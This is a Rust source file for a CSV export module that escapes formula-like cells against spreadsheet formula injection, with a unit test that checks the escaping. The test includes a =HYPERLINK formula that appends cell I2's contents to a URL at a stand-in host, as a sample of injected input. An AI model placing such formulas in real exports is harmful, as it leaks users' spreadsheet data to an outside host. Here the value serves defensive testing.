//! The CSV export: one file per kind of record (RFC 4180: comma-separated, CRLF line ends, fields quoted when
//! they hold a comma, quote or line break; UTF-8 with a byte-order mark, which spreadsheet programs need to
//! read accents and non-Latin names correctly).
//!
//! The files go into a new folder (`cairn-csv-2026-11-26/`, numbered when the name is taken) inside the folder
//! chosen, so an export never overwrites anything. A text cell that a spreadsheet program would read as a
//! formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, the way those
//! programs expect: `=HYPERLINK(…)` in a note title stays text, and `-ve culture result` is not `#NAME?`.
//! [`read_cell`] undoes it.

use cairn_core::files::{create_new_folder, write_atomically};
use cairn_core::{Error, Result};
use cairn_store::records::{RecordTable, RECORD_KINDS};
use cairn_store::Store;
use jiff::civil::Date;
use std::path::{Path, PathBuf};

const BYTE_ORDER_MARK: &[u8] = b"\xEF\xBB\xBF";

/// One table as CSV bytes.
pub fn to_csv(table: &RecordTable) -> Result<Vec<u8>> {
    let failed = |e: csv::Error| Error::Database(format!("Could not write CSV: {e}"));
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(BYTE_ORDER_MARK.to_vec());
    writer.write_record(&table.headers).map_err(failed)?;
    for row in &table.rows {
        writer
            .write_record(row.iter().map(|cell| neutralised(cell).into_owned()))
            .map_err(failed)?;
    }
    writer
        .into_inner()
        .map_err(|e| Error::Database(format!("Could not write CSV: {e}")))
}

/// A cell as written: text a spreadsheet would take for a formula gets a leading `'` (so does text that already
/// starts with one, so [`read_cell`] gives back exactly what was there). Numbers, negative ones included, are
/// left as numbers.
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
    if risky || cell.starts_with('\'') {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The text a cell written by [`to_csv`] holds.
pub fn read_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Writes every kind of record as `<kind>.csv` into a new folder `cairn-csv-<today>` (numbered if taken) in
/// `parent`, which must exist; each file is written whole or not at all. Returns the folder and the files.
pub fn write_all(
    store: &Store,
    parent: &Path,
    today: Date,
    from: Option<Date>,
    to: Option<Date>,
) -> Result<(PathBuf, Vec<PathBuf>)> {
    if !parent.is_dir() {
        return Err(Error::io(
            format!("Cannot write CSV files into {}", parent.display()),
            std::io::Error::from(std::io::ErrorKind::NotFound),
        ));
    }
    // Everything is read before the folder is made, so a failure leaves nothing behind.
    let mut tables = Vec::new();
    for &kind in RECORD_KINDS {
        tables.push((kind, to_csv(&store.record_table(kind, from, to)?)?));
    }
    let folder = create_new_folder(parent, &format!("cairn-csv-{today}"))?;
    let mut written = Vec::new();
    for (kind, bytes) in tables {
        let path = folder.join(format!("{}.csv", kind.file_stem()));
        if let Err(error) = write_atomically(&path, &bytes) {
            let _ = std::fs::remove_dir_all(&folder);
            return Err(error);
        }
        written.push(path);
    }
    Ok((folder, written))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_like_text_is_neutralised_and_reads_back_exactly() {
        for text in [
            "=HYPERLINK(\"https://example.com/?\"&I2,\"Open\")",
            "+44 20 7946 0000",
            "-ve culture result",
            "@mentor",
            "\tindented",
            "\rcarriage",
            "'quoted already",
        ] {
            let cell = neutralised(text);
            assert!(cell.starts_with('\''), "{text:?} -> {cell:?}");
            assert_eq!(read_cell(&cell), text);
        }
        for plain in ["Moore's levels", "-5", "+3.5", "42", "", "a=b"] {
            assert_eq!(neutralised(plain), plain, "{plain:?} is left alone");
        }
    }
}
